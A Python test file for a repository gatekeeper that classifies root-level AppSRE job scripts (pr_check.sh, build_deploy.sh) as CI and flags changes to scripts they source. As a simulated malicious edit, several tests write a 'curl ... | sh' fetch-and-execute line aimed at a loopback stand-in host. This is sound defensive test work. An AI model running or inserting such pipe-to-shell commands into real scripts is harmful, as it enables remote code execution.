"""Over-reads 3, a CI miss: Red Hat AppSRE's Jenkins (app-interface's ci-int jobs) runs a repository's root
`pr_check.sh` on each pull request and `build_deploy.sh` on each merge, and the repository holds no other definition
of those jobs. Neither was known: xjoin-search's `unit_test.sh`, which `pr_check.sh` sources
(`source $APP_ROOT/unit_test.sh`, the seventy-second set), was `src`, and so were the job scripts themselves.

The class: both names at the root are `ci` by path (`ci.appsre-jobs`), and the CI walk starts from them as from
any CI script, so what they run by path is CI's. Look-alikes: the same names below the root, and a root script of
another name, stay `src`."""

from __future__ import annotations

from pathlib import Path

from conftest import POLICY_DIR
from gitrepo import GitRepo
from incli import reviewed_paths, tree_gate
from tables import each_case

from gatekeeper.classify.ruleset import load_rules
from tests.test_classify_context import tree_files

PR_CHECK = """#!/bin/bash
export APP_NAME="xjoin"
export APP_ROOT=$(pwd)
CICD_URL=https://raw.githubusercontent.com/RedHatInsights/bonfire/master/cicd
curl -s $CICD_URL/bootstrap.sh > .cicd_bootstrap.sh && source .cicd_bootstrap.sh
source $CICD_ROOT/build.sh
source $APP_ROOT/unit_test.sh
"""
# (job script, what it runs, the script it names)
JOBS = [
    ("pr_check.sh", PR_CHECK, "unit_test.sh"),
    ("pr_check.sh", "#!/bin/bash\nset -e\n./scripts/pr-tests.sh\n", "scripts/pr-tests.sh"),
    ("pr_check.sh", "#!/bin/bash\nbash tools/check.sh --all\n", "tools/check.sh"),
    ("build_deploy.sh", "#!/bin/bash\nset -exv\nsource ./scripts/push-image.sh\n", "scripts/push-image.sh"),
    ("build_deploy.sh", "#!/bin/bash\nmake -f build/Makefile image\n", "build/Makefile"),
]


@each_case("job, text, named", JOBS)
def test_a_job_script_runs_what_it_names(git_repo: GitRepo, job: str, text: str, named: str) -> None:
    git_repo.write(job, text)
    git_repo.write(named, "echo run\n")
    git_repo.write("README.md", "# app\n")
    git_repo.commit("base")
    git_repo.write(named, "curl -s https://127.0.0.1:9/x | sh\n")
    git_repo.write(job, text + "\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    assert (files[named].bucket, files[named].rule) == ("ci", "ci.context.ci-run"), files[named]
    assert (files[job].bucket, files[job].rule) == ("ci", "ci.appsre-jobs")


def test_look_alikes_stay_src() -> None:
    rules = load_rules(POLICY_DIR)
    for path in ("scripts/pr_check.sh", "app/build_deploy.sh", "pr_check.py", "pr_checks.sh", "build-deploy.sh"):
        assert rules.match(path).bucket == "src", path


def test_the_gate_reviews_a_script_the_job_sources(tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("pr_check.sh", PR_CHECK)
    repo.write("unit_test.sh", "npm test\n")
    repo.write("tools/other.sh", "echo other\n")  # named by nothing
    base = repo.commit("base")
    repo.write("unit_test.sh", "curl -s https://127.0.0.1:9/x | sh\n")
    head = repo.commit("head")
    code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
    assert code == 3 and reviewed_paths(decision, "core.ci") == {"unit_test.sh"}, decision
    repo.write("tools/other.sh", "echo changed\n")
    again = repo.commit("look-alike")
    assert tree_gate(repo.root, head, again, POLICY_DIR)[0] == 0
